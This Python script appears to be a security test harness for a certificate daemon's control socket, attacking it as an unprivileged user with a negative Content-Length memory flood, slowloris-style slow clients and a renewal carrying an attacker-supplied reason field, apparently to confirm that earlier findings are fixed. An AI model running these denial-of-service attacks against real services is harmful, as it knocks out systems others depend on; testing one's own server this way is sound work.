"""Attacks on certd's control socket, run as an unprivileged member of its control group.

Standard library only (run with /usr/bin/python3 as the attacker, who cannot read the
project's virtualenv under /root). Each attack prints one JSON line with what it saw, and
stops by itself.

    attack_control.py f6 SOCKET MIB          Content-Length: -1, then MIB MiB of body
    attack_control.py f7 SOCKET N SECONDS     N slow clients trickling one byte a second
    attack_control.py f9 SOCKET REASON_JSON   a renewal whose reason is REASON_JSON (a JSON string)
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time


def connect(path: str, timeout: float = 10.0) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(path)
    return s


def read_answer(s: socket.socket) -> bytes:
    out = b""
    try:
        while chunk := s.recv(65536):
            out += chunk
    except OSError:
        pass
    return out


def f6(path: str, mib: int) -> dict:
    """A body with no length limit: the old server read it all into memory."""
    s = connect(path, timeout=60)
    s.sendall(b"POST /v1/renew HTTP/1.0\r\nContent-Length: -1\r\n\r\n")
    chunk = b"A" * (1 << 20)
    sent = 0
    try:
        for _ in range(mib):
            s.sendall(chunk)
            sent += 1
        s.shutdown(socket.SHUT_WR)
    except OSError:
        pass  # the server stopped reading: what we want
    answer = read_answer(s)
    return {"sent_mib": sent, "status": answer.split(b"\r\n", 1)[0].decode(errors="replace"),
            "answer": answer[-300:].decode(errors="replace")}


def f7(path: str, n: int, seconds: float) -> dict:
    """N clients that each send their request one byte per second and never finish it."""
    request = b"GET /v1/status HTTP/1.0\r\nX-Slow: " + b"a" * 10_000
    clients: dict[socket.socket, int] = {}
    busy = cut = refused = 0
    for _ in range(n):
        for _attempt in range(100):  # the listen queue may be full for a moment: try again
            try:
                s = connect(path)
                break
            except (BlockingIOError, ConnectionRefusedError):
                time.sleep(0.01)
        else:
            refused += 1
            continue
        s.setblocking(False)
        clients[s] = 0
    end = time.monotonic() + seconds
    next_tick = time.monotonic()
    while clients and time.monotonic() < end:
        readable, _, _ = select.select(list(clients), [], [], max(0.0, min(next_tick, end) - time.monotonic()))
        for s in readable:
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.0 503") or b"certd is busy" in data:
                busy += 1
            else:
                cut += 1  # the server closed a request that was still coming in
            del clients[s]
            s.close()
        if time.monotonic() >= next_tick:
            next_tick += 1.0
            for s, i in list(clients.items()):
                try:
                    s.send(request[i:i + 1])
                    clients[s] = i + 1
                except BlockingIOError:
                    pass
                except OSError:
                    cut += 1
                    del clients[s]
                    s.close()
    held = len(clients)
    for s in clients:
        s.close()
    return {"opened": n - refused, "busy": busy, "cut": cut, "held_to_the_end": held}


def f9(path: str, reason: str) -> dict:
    body = json.dumps({"names": ["www"], "force": True, "reason": reason}).encode()
    s = connect(path, timeout=30)
    s.sendall(b"POST /v1/renew HTTP/1.0\r\nContent-Type: application/json\r\n"
              + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
    answer = read_answer(s)
    return {"status": answer.split(b"\r\n", 1)[0].decode(errors="replace"),
            "body": answer.split(b"\r\n\r\n", 1)[-1].decode(errors="replace")}


def main(argv: list[str]) -> None:
    what, path = argv[0], argv[1]
    if what == "f6":
        result = f6(path, int(argv[2]))
    elif what == "f7":
        result = f7(path, int(argv[2]), float(argv[3]))
    elif what == "f9":
        result = f9(path, json.loads(argv[2]))
    else:
        raise SystemExit(f"unknown attack {what}")
    print(json.dumps(result))


if __name__ == "__main__":
    main(sys.argv[1:])
